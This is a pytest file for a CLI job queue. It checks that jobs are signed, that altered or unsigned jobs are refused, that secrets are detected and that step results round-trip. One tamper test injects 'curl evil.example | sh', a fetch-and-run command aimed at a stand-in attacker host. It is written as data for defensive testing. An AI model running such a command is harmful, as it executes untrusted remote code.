from __future__ import annotations

import dataclasses
import json
from pathlib import Path

import pytest

from maestro_cli.adapters.base import Attachment, StepResult, StepSpec, TestCase
from maestro_cli.plan.executor import AttemptRequest
from maestro_cli.queue.jobs import Job, RefusedMessage, secrets_in, seal, step_result_from_dict, unseal


def make_job(**step_fields: object) -> Job:
    step = StepSpec(id="unit", adapter="shell", run="echo hi", env={"MODE": "ci"}, timeout=30.0, **step_fields)  # type: ignore[arg-type]
    request = AttemptRequest(step=step, attempt=2, workdir=Path("/src/plan"), results_dir=Path("/r"), log_path=Path("/r/logs/unit.log"))
    return Job.for_request("run1", request, ("linux", "gpu"))


def test_a_job_survives_the_trip_without_the_coordinators_local_paths() -> None:
    job = dataclasses.replace(make_job(cwd=Path("sub"), options={"shell": "sh"}), mask=("shared-value",))
    document = unseal(seal(job.to_document(), "s3cret"), "s3cret")
    back = Job.from_document(document)
    assert back.step == job.step
    assert back.mask == ("shared-value",)
    assert (back.run_id, back.attempt, back.tags, back.request.workdir) == ("run1", 2, ("gpu", "linux"), Path("/src/plan"))
    assert "results_dir" not in document and "log_path" not in document


def test_an_altered_job_is_refused() -> None:
    fields = seal(make_job().to_document(), "s3cret")
    fields["body"] = fields["body"].replace("echo hi", "curl evil.example | sh")
    with pytest.raises(RefusedMessage, match="altered"):
        unseal(fields, "s3cret")


def test_a_job_signed_with_another_secret_is_refused() -> None:
    with pytest.raises(RefusedMessage, match="signature does not match"):
        unseal(seal(make_job().to_document(), "other"), "s3cret")


def test_an_unsigned_job_is_refused_where_a_secret_is_set() -> None:
    with pytest.raises(RefusedMessage, match="unsigned"):
        unseal(seal(make_job().to_document(), None), "s3cret")


def test_a_signed_job_is_refused_where_no_secret_can_check_it() -> None:
    with pytest.raises(RefusedMessage, match="MAESTRO_QUEUE_SECRET is not set"):
        unseal(seal(make_job().to_document(), "s3cret"), None)


def test_without_secrets_on_either_side_jobs_pass_unsigned() -> None:
    fields = seal(make_job().to_document(), None)
    assert "sig" not in fields
    assert Job.from_document(unseal(fields, None)).step.run == "echo hi"


def test_something_that_is_not_a_job_is_refused() -> None:
    with pytest.raises(RefusedMessage, match="not a maestro job"):
        Job.from_document(unseal({"body": json.dumps({"kind": "other"})}, None))
    with pytest.raises(RefusedMessage, match="malformed job"):
        Job.from_document({"kind": "job", "version": 1, "run_id": "r"})
    with pytest.raises(RefusedMessage, match="no body"):
        unseal({}, None)


def test_secrets_in_a_job_are_found_by_name() -> None:
    job = make_job()
    assert secrets_in(job.to_document(), {"MODE_TOKEN": "ci", "API_TOKEN": "abc123"}) == ["MODE_TOKEN"]
    assert secrets_in(job.to_document(), {"API_TOKEN": "abc123"}) == []


def test_a_step_result_crosses_the_queue_unchanged() -> None:
    result = StepResult(
        "failed",
        exit_code=1,
        message="1 failed",
        duration=1.5,
        outputs={"version": "1.2"},
        cases=[TestCase("test_x", "tests.test_a", "failed", 0.1, "assert 1 == 2", attachments=[Attachment("a.png", "screenshot")])],
        attachments=[Attachment("logs/unit.log", "log")],
    )
    assert step_result_from_dict(json.loads(json.dumps(result.to_dict()))).to_dict() == result.to_dict()
